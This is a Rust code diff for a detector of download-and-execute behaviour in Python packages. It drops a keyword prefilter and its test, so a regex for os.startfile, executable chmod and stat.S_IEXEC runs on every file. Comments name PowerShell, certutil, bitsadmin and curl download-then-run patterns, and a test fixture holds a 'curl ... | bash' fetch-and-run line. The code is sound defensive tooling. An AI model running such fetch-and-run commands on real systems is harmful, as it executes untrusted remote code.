@@ -116,9 +116,6 @@ static RUN_SAVED: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?-u:\b)os\.(?:startfile|chmod\s*\([^)\n]*0o?7[0-7][0-7])|(?-u:\b)stat\.S_IEXEC(?-u:\b)")
         .expect("run saved")
 });
-/// Words every [`RUN_SAVED`] match holds, as `memmem` searchers built once: its gate.
-static RUN_SAVED_WORDS: LazyLock<[memchr::memmem::Finder<'static>; 3]> =
-    LazyLock::new(|| ["startfile", "chmod", "S_IEXEC"].map(memchr::memmem::Finder::new));
 /// A download and a run in one command string or script: PowerShell `DownloadFile` /
 /// `Invoke-WebRequest -OutFile` then `Start-Process`, `certutil -urlcache` / `bitsadmin
 /// /transfer` then the file, `curl -o x && ./x`.
@@ -303,16 +300,12 @@ impl Detector for DownloadExecute {
             sinks::find(src, &[SinkKind::Process]).into_iter().map(|s| (s.offset, s.name.to_string())).collect();
         // `pip install <url>`: High, weighed by place (pushed last, after the Critical hits).
         let pip_urls = pip_installs_from_url(file, &runs);
-        // Searched only in a member holding one of the words every match holds: the pattern
-        // starts with `os.`, which most modules hold many times, each a start the search confirmed.
-        if RUN_SAVED_WORDS.iter().any(|f| f.find(file.text.as_bytes()).is_some()) {
-            runs.extend(
-                RUN_SAVED
-                    .find_iter(file.text)
-                    .filter(|m| src.is_code(m.start()))
-                    .map(|m| (m.start(), m.as_str().split('(').next().unwrap_or("").trim().to_string())),
-            );
-        }
+        runs.extend(
+            RUN_SAVED
+                .find_iter(file.text)
+                .filter(|m| src.is_code(m.start()))
+                .map(|m| (m.start(), m.as_str().split('(').next().unwrap_or("").trim().to_string())),
+        );
         runs.sort();
         if runs.is_empty() {
             push_pip(file, hits, &pip_urls, n);
@@ -1380,32 +1373,6 @@ SCRIPT = \"\"\"\n    set -e\n    curl -fsSL https://example.org/stage.sh | bash\
             "        self.log('x')\n".repeat(33)
         )
     });
-
-    /// The words [`RUN_SAVED`] is gated by are in every match: named cases and random texts.
-    #[test]
-    fn run_saved_gate_never_hides_a_match() {
-        let gated = |t: &str| RUN_SAVED_WORDS.iter().any(|f| f.find(t.as_bytes()).is_some());
-        let cases = [
-            ("startfile", "os.startfile(path)"),
-            ("chmod executable", "os.chmod(p, 0o755)"),
-            ("chmod after blanks", "os.chmod (p, 0755)"),
-            ("exec bit", "os.chmod(p, st.st_mode | stat.S_IEXEC)"),
-        ];
-        for (name, text) in cases {
-            assert!(RUN_SAVED.is_match(text), "{name}: the regex matches");
-            assert!(gated(text), "{name}: the gate hid a match");
-        }
-        assert!(!gated("os.path.join(os.sep, os.getcwd())"), "a module using os for other things is skipped");
-        let pieces =
-            ["os.", "startfile", "chmod", "(", "p, ", "0o7", "0", "5", "S_IEXEC", "stat.", " ", "\n", ")", "x"];
-        let mut matched = 0;
-        for text in pysrc::random_texts(&pieces, 12, 0xbb67_ae85_84ca_a73b, 20_000) {
-            let hit = RUN_SAVED.is_match(&text);
-            assert!(!hit || gated(&text), "the gate hid a match in {text:?}");
-            matched += usize::from(hit);
-        }
-        assert!(matched > 200, "the random texts hold matches: {matched}");
-    }
 
     static FAR: LazyLock<String> =
         LazyLock::new(|| format!("r = requests.get(u)\n{}subprocess.run(['git', 'status'])\n", "x = 1\n".repeat(40)));
